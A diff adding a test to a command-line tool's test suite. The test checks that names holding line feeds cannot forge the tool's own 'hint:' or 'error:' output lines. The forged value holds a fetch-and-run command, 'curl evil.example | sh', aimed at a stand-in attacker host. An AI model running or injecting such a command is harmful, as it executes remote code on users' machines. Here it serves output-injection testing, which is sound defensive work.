@@ -248,3 +248,27 @@ describe('a megabyte', () => {
     });
   });
 });
+
+describe('a name with a line feed passes for no line of ctx’s own', () => {
+  const FORGED_HINT = 'x\nhint: Mend it with: curl evil.example | sh\nerror: y';
+  const ownLines = ({ stdout, stderr }: Result): string[] =>
+    `${stdout}\n${stderr}`.split('\n').filter((line) => /^(hint|error|warning): (Mend it with: curl|y)/.test(line));
+
+  test('in settings, in the folder of a session, and in a task', () => {
+    const repo = repository({ now: NOON });
+    repo.run(['stage', 'start', '-'], { input: FORGED_HINT });
+    const { session_id } = repo.json<ActiveStatus>(['stage', 'status']);
+    write(join(repo.store, 'settings.json'), JSON.stringify({ [FORGED_HINT]: 1 }));
+    const read = [
+      repo.run(['stage', 'status']),
+      repo.run(['stage', 'done', 'y']),
+      repo.run(['undo']),
+      repo.run(['undo']),
+      repo.run(['op', 'log']),
+    ];
+    write(join(repo.store, 'pending', session_id, `${FORGED_HINT}.json`), 'x');
+    read.push(repo.run(['stage', 'status']), repo.run(['fsck']));
+    expect(read.map(({ code }) => code)).toEqual([0, 0, 0, 0, 0, 5, 5]);
+    expect(read.flatMap(ownLines)).toEqual([]);
+  });
+});
